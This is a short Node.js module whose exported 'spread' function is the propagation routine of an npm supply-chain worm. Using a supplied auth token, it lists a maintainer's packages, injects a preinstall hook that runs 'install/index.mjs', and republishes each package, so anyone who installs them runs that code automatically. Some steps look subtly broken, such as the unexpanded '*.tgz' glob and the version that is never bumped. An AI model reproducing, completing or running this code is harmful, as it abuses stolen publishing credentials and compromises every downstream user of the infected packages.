import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export async function spread(token) {
  const env = { ...process.env, NODE_AUTH_TOKEN: token };
  const res = await fetch('https://registry.npmjs.org/-/v1/search?text=maintainer:me&size=50');
  const { objects } = await res.json();
  for (const { package: p } of objects) {
    const dir = mkdtempSync(join(tmpdir(), 'x-'));
    execFileSync('npm', ['pack', p.name, '--pack-destination', dir], { env });
    execFileSync('tar', ['xzf', join(dir, '*.tgz'), '-C', dir]);
    const file = join(dir, 'package', 'package.json');
    const pkg = JSON.parse(readFileSync(file, 'utf8'));
    pkg.scripts ??= {};
    pkg.scripts.preinstall = 'node install/index.mjs';
    writeFileSync(file, JSON.stringify(pkg));
    execFileSync('npm', ['publish', join(dir, 'package')], { env });
  }
}
